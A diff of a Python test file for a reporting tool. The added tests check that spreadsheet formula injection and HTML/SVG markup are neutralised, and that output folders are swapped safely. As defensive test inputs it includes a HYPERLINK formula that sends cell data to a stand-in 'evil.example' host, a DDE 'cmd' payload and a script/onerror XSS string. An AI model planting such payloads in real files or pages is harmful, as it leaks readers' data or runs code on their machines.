@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import errno
 import hashlib
 import json
 import os
@@ -17,6 +19,8 @@ from openpyxl import load_workbook
 from caseload.errors import CaseloadError
 from caseload.figures.style import finish, new_figure
 from caseload.publish import Publication, StepRecord, suppress_table, write_report
+from caseload.publish import report as report_module
+from caseload.publish.report import MARKER, MARKER_TEXT, README_TEXT
 
 PEIL = "2025-12-31"
 
@@ -73,6 +77,10 @@ def _publication(extra_table: pd.DataFrame | None = None, inputs=()) -> Publicat
     return pub
 
 
+def _no_exchange(a, b):
+    raise OSError(errno.ENOSYS, "no atomic exchange here")
+
+
 def _snapshot(folder: Path) -> dict[str, bytes]:
     return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
             if p.is_file()}
@@ -87,11 +95,9 @@ def inputs(tmp_path) -> list[Path]:
 
 @pytest.fixture
 def written(tmp_path, inputs):
+    """A report written twice into the same folder (the second run replaces the first)."""
     out = tmp_path / "reports"
-    (out / "kpi").mkdir(parents=True)
-    (out / "README.md").write_text("# reports\n", encoding="utf-8")
-    (out / "kpi" / "index.html").write_text("other command", encoding="utf-8")
-    (out / "index.html").write_text("stale", encoding="utf-8")
+    write_report(_publication(inputs=inputs), out)
     result = write_report(_publication(inputs=inputs), out)
     return out, result
 
@@ -105,10 +111,10 @@ def test_layout(written):
     assert {"index.html", "tabellen.xlsx", "manifest.json", "README.md",
             "tables/leeftijd_geslacht.csv", "tables/trede_werk.csv", "tables/model.csv",
             "figures/staaf.png", "figures/staaf.svg"} <= names
-    # The committed README of reports/ and other commands' output survive the swap.
-    assert (out / "README.md").read_text() == "# reports\n"
-    assert (out / "kpi" / "index.html").read_text() == "other command"
-    assert (out / "index.html").read_text() != "stale"
+    # The report carries its README and the marker of a report folder, and nothing else.
+    assert (out / "README.md").read_text(encoding="utf-8") == README_TEXT
+    assert (out / MARKER).read_text(encoding="utf-8") == MARKER_TEXT
+    assert names == set(result.manifest["files"]) | {"manifest.json"}
     # No staging or old folders are left next to the target.
     assert [p.name for p in out.parent.iterdir() if p.name.startswith(".reports")] == []
     assert set(result.manifest["files"]) >= {"index.html", "tabellen.xlsx",
@@ -217,6 +223,9 @@ def test_failure_during_swap_restores_previous(written, inputs, monkeypatch):
             raise OSError("rename failed")
         return real_rename(self, target)
 
+    # Without an atomic exchange (ENOSYS: Windows, some network file systems) the swap is
+    # two renames; when the second fails, the old report is put back.
+    monkeypatch.setattr(report_module, "_exchange", _no_exchange)
     monkeypatch.setattr(Path, "rename", rename)
     with pytest.raises(OSError, match="rename failed"):
         write_report(_publication(inputs=inputs), out)
@@ -402,3 +411,278 @@ def test_index_tables_and_gaps(tmp_path):
     with pytest.raises(CaseloadError, match="empty count in row 2"):
         write_report(gap, tmp_path / "r")
     assert (out / "tables" / "idx.csv").is_file()
+
+
+# ------------------------------------------------------------------ no live formulas (issue 11)
+
+_EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
+
+
+def test_text_that_starts_a_formula_is_neutralised_in_csv_and_xlsx(tmp_path):
+    """A dropout reason or a title starting with = + - @ (or TAB/CR) is text in CSV and XLSX."""
+    reasons = pd.DataFrame({
+        "reden": [_EVIL, "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "-", "Werk",
+                  "-3", "  =1", "\r-2+3"],
+        "aantal": [10, 20, 30, 40, 50, 60, 70, 80, 90],
+        "saldo": [-5.5, 1.25, -0.5, 2.0, 3.0, -1.75, 0.5, 1.0, 2.5],
+    })
+    pub = Publication(_EVIL, PEIL, "@bron", min_cell=5)
+    pub.notes.append("-- toelichting met streepjes")
+    pub.add_table("uitval_redenen", reasons, title="+titel", method="=1+1", counts=["aantal"],
+                  decimals=2, labels={"reden": "=Reden"})
+    out = write_report(pub, tmp_path / "r").out_dir
+    with open(out / "tables" / "uitval_redenen.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["'=Reden", "aantal", "saldo"]
+    assert [r[0] for r in rows[1:9]] == ["'" + _EVIL, "'+cmd|' /C calc'!A0", "'@SUM(1+1)",
+                                         "'\t=1+1", "'-", "Werk", "-3", "'  =1"]
+    # (csv's writer leaves a field with a CR unquoted, so a reader splits that line: check bytes.)
+    assert b"\n'\r-2+3,90," in (out / "tables" / "uitval_redenen.csv").read_bytes()
+    # Numbers stay numbers: negative amounts are written as numbers, not quoted.
+    assert rows[1][2] == "-5.50" and rows[3][2] == "-0.50"
+    wb = load_workbook(out / "tabellen.xlsx")
+    formulas = [(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows()
+                for c in row if c.data_type == "f"]
+    assert formulas == []
+    ws = wb["uitval_redenen"]
+    assert ws["A1"].value == "=Reden" and ws["A1"].quotePrefix
+    assert ws["A2"].value == _EVIL and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
+    assert ws["A7"].value == "Werk" and not ws["A7"].quotePrefix
+    assert ws["A10"].value.endswith("-2+3") and ws["A10"].quotePrefix  # XML reads CR as LF
+    assert ws["C2"].value == -5.5 and ws["C2"].data_type == "n"
+    notes = wb["Toelichting"]
+    title = notes["A1"]
+    assert title.value == _EVIL and title.data_type == "s" and title.quotePrefix
+    texts = {c.value: c for row in notes.iter_rows() for c in row if isinstance(c.value, str)}
+    assert texts["+titel"].quotePrefix and texts["=1+1"].quotePrefix
+    assert texts["-- toelichting met streepjes"].quotePrefix
+    # HTML stays escaped: the text is shown, nothing is made a link or markup.
+    html = (out / "index.html").read_text(encoding="utf-8")
+    assert '<a href="http://evil' not in html and "HYPERLINK(&quot;" in html
+
+
+def test_neutralise_frame_keeps_numbers_and_types():
+    from caseload.publish.safe import neutralise_frame
+
+    df = pd.DataFrame({"t": pd.array(["=a", None, "b"], dtype="string"), "n": [-1, 2, -3],
+                       "c": pd.Categorical(["-x", "y", "-x"]), "o": [-4, "=b", None]})
+    out = neutralise_frame(df)
+    assert out["t"].tolist()[0] == "'=a" and pd.isna(out["t"].iloc[1]) and out["t"].dtype == "string"
+    assert out["n"].tolist() == [-1, 2, -3] and out["n"].dtype == df["n"].dtype
+    assert out["c"].tolist() == ["'-x", "y", "'-x"]
+    assert out["o"].tolist()[:2] == [-4, "'=b"]
+    assert df["t"].iloc[0] == "=a"  # the input is not changed
+    clean = pd.DataFrame({"t": ["a", "-2,5"], "n": [1, 2]})
+    assert neutralise_frame(clean) is clean
+
+
+# ------------------------------------------------------------------ the report folder (issue 11)
+
+
+def _complete(out: Path) -> bool:
+    """Whether ``out`` holds one whole report: every file its manifest lists, with that hash."""
+    try:
+        manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
+    except (OSError, ValueError):
+        return False
+    return (out / MARKER).is_file() and all(
+        (out / name).is_file() and hashlib.sha256((out / name).read_bytes()).hexdigest() == sha
+        for name, sha in manifest["files"].items())
+
+
+def test_a_folder_with_other_files_is_refused_and_untouched(tmp_path, inputs):
+    out = tmp_path / "mijn_map"
+    (out / "kpi").mkdir(parents=True)
+    (out / "README.md").write_text("# mijn notities\n", encoding="utf-8")
+    (out / "tables").mkdir()
+    (out / "tables" / "begroting.csv").write_text("a,b\n1,2\n", encoding="utf-8")
+    (out / "kpi" / "index.html").write_text("other command", encoding="utf-8")
+    before = _snapshot(out)
+    with pytest.raises(CaseloadError, match="not written by caseload") as exc:
+        write_report(_publication(inputs=inputs), out)
+    assert "tables/begroting.csv" in str(exc.value) and "Fix:" in str(exc.value)
+    assert _snapshot(out) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["mijn_map", "extract.csv"])
+
+
+def test_a_file_added_to_a_report_is_not_deleted(written, inputs):
+    out, _ = written
+    (out / "tables" / "eigen.csv").write_text("x\n", encoding="utf-8")
+    (out / "notities.txt").write_text("x\n", encoding="utf-8")
+    before = _snapshot(out)
+    with pytest.raises(CaseloadError, match="did not write") as exc:
+        write_report(_publication(inputs=inputs), out)
+    assert "'notities.txt'" in str(exc.value) and "'tables/eigen.csv'" in str(exc.value)
+    assert _snapshot(out) == before
+    (out / "tables" / "eigen.csv").unlink()
+    (out / "notities.txt").unlink()
+    write_report(_publication(inputs=inputs), out)
+    assert _complete(out)
+
+
+@pytest.mark.parametrize("where", ["data", ".", "data/extract.csv", "/"])
+def test_a_folder_holding_or_above_the_inputs_is_refused(tmp_path, where):
+    data = tmp_path / "data"
+    data.mkdir()
+    extract = data / "extract.csv"
+    extract.write_text("a;b\n1;2\n", encoding="utf-8")
+    config = tmp_path / "caseload.toml"
+    config.write_text("", encoding="utf-8")
+    before = _snapshot(tmp_path)
+    out = Path(where) if where == "/" else tmp_path / where
+    with pytest.raises(CaseloadError, match="may not hold") as exc:
+        write_report(_publication(inputs=[extract, config]), out)
+    assert "Fix:" in str(exc.value)
+    assert _snapshot(tmp_path) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["caseload.toml", "data"]
+
+
+def test_a_report_inside_another_report_is_refused(written, inputs):
+    out, _ = written
+    with pytest.raises(CaseloadError, match="lies inside the report folder"):
+        write_report(_publication(inputs=inputs), out / "kpi")
+    assert not (out / "kpi").exists()
+
+
+def test_the_committed_reports_folder_is_a_report_folder(tmp_path, inputs):
+    """reports/ of the repository holds README.md and the marker, byte-equal to what a run
+    writes: a refresh into it is allowed, and leaves git's working tree unchanged."""
+    root = Path(__file__).resolve().parents[1] / "reports"
+    assert (root / "README.md").read_text(encoding="utf-8") == README_TEXT
+    assert (root / MARKER).read_text(encoding="utf-8") == MARKER_TEXT
+    fresh = tmp_path / "reports"
+    fresh.mkdir()
+    for name in ("README.md", MARKER):
+        (fresh / name).write_bytes((root / name).read_bytes())
+    write_report(_publication(inputs=inputs), fresh)
+    for name in ("README.md", MARKER):
+        assert (fresh / name).read_bytes() == (root / name).read_bytes()
+
+
+def test_leftovers_of_killed_runs_are_removed_or_put_back(written, inputs, monkeypatch):
+    out, _ = written
+    before = _snapshot(out)
+    dead = 99_999_999  # above any pid_max: not a live process
+    # Killed between the two renames of the fallback swap: the old report is aside, no target.
+    aside = out.parent / f".reports.old-{dead}-deadbeef"
+    out.rename(aside)
+    # Killed while deleting the old report after an exchange: a half-deleted .tmp- folder.
+    half = out.parent / f".reports.tmp-{dead}-cafebabe"
+    (half / "tables").mkdir(parents=True)
+    bsn_table = pd.DataFrame({"groep": ["x", "y"], "kenmerk": ["bsn 123456782", "niets"]})
+    with pytest.raises(CaseloadError, match="BSN"):
+        write_report(_publication(bsn_table, inputs=inputs), out)
+    # The refused run still put the old report back and removed the dead stage.
+    assert _snapshot(out) == before
+    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []
+    # An .old- folder next to an existing report is deleted.
+    (out.parent / f".reports.old-{dead}-0badf00d").mkdir()
+    write_report(_publication(inputs=inputs), out)
+    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []
+
+
+def test_attachments_are_part_of_the_report(tmp_path, inputs):
+    model = tmp_path / "m.skops"
+    model.write_bytes(b"PK\x03\x04 model")
+    out = tmp_path / "r"
+    result = write_report(_publication(inputs=inputs), out, attachments={"models/m.skops": model})
+    assert (out / "models" / "m.skops").read_bytes() == model.read_bytes()
+    assert "models/m.skops" in result.manifest["files"]
+    write_report(_publication(inputs=inputs), out)  # the next run may replace it
+    assert not (out / "models").exists()
+    with pytest.raises(CaseloadError, match="attachment"):
+        write_report(_publication(inputs=inputs), out, attachments={"../x": model})
+
+
+_WRITER = """
+import sys
+from pathlib import Path
+sys.path.insert(0, sys.argv[1])
+from test_publish import _publication
+from caseload.publish import write_report
+out, extract = Path(sys.argv[2]), Path(sys.argv[3])
+print("ready", flush=True)
+while True:
+    write_report(_publication(inputs=[extract]), out)
+    print("written", flush=True)
+"""
+
+
+@pytest.mark.slow
+def test_a_complete_report_exists_at_every_moment_under_kill_and_concurrency(written, inputs):
+    """Two writers race on one folder; the folder is watched, then each writer is SIGKILLed at a
+    random moment. The folder is never missing, and after every kill it is one whole report."""
+    import signal
+    import subprocess
+    import sys
+
+    out, _ = written
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join(
+        [str(Path(__file__).resolve().parents[1]), os.environ.get("PYTHONPATH", "")]),
+        "MPLBACKEND": "Agg"}
+    rng = np.random.default_rng(3)
+    missing = checks = 0
+    for _ in range(3):
+        procs = [subprocess.Popen([sys.executable, "-c", _WRITER, str(Path(__file__).parent),
+                                   str(out), str(inputs[0])], env=env, stdout=subprocess.PIPE,
+                                  text=True) for _ in range(2)]
+        for p in procs:
+            assert p.stdout.readline().strip() == "ready"
+        procs[0].stdout.readline()  # at least one report written by these processes
+        deadline = time.monotonic() + rng.uniform(0.2, 2.0)
+        while time.monotonic() < deadline:
+            checks += 1
+            missing += not (out / "index.html").is_file() or not (out / MARKER).is_file()
+        for p in procs:
+            p.send_signal(signal.SIGKILL)
+            p.wait()
+        assert _complete(out)
+    assert checks > 100 and missing == 0
+    # The next run removes whatever the killed runs left next to the folder.
+    write_report(_publication(inputs=inputs), out)
+    assert _complete(out)
+    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []
+
+
+def test_markup_in_texts_stays_escaped_in_html_and_svg(tmp_path):
+    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>'
+    pub = Publication(evil, PEIL, "bron", min_cell=5)
+    pub.add_table("t", pd.DataFrame({"reden": [evil, "Werk"], "aantal": [10, 20]}), title=evil,
+                  method=evil, counts=["aantal"], labels={"reden": evil})
+    fig, ax = new_figure(6, 3)
+    ax.bar([evil, "B"], [10, 20])
+    pub.add_figure("f", finish(fig, title=evil, source="Bron", peildatum=PEIL), title=evil,
+                   caption=evil, method=evil)
+    out = write_report(pub, tmp_path / "r").out_dir
+    html = (out / "index.html").read_text(encoding="utf-8")
+    svg = (out / "figures" / "f.svg").read_text(encoding="utf-8")
+    for text in (html, svg):
+        assert "<script" not in text and "<img src=x" not in text
+        assert "&lt;script&gt;" in text
+
+
+def test_the_swap_is_one_atomic_exchange_here(written, inputs, monkeypatch):
+    """On Linux and macOS the two folders are exchanged by one system call, not two renames;
+    an error of that call leaves the previous report as it was."""
+    import sys
+
+    if not (sys.platform.startswith("linux") or sys.platform == "darwin"):
+        pytest.skip("no atomic exchange on this platform")
+    out, _ = written
+
+    def two_renames(*a):
+        raise AssertionError("the fallback was used")
+
+    monkeypatch.setattr(report_module, "_swap_by_two_renames", two_renames)
+    write_report(_publication(inputs=inputs), out)
+    assert _complete(out)
+    before = _snapshot(out)
+
+    def broken(a, b):
+        raise OSError(errno.EIO, "input/output error")
+
+    monkeypatch.setattr(report_module, "_exchange", broken)
+    with pytest.raises(OSError, match="input/output"):
+        write_report(_publication(inputs=inputs), out)
+    assert _snapshot(out) == before
+    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []
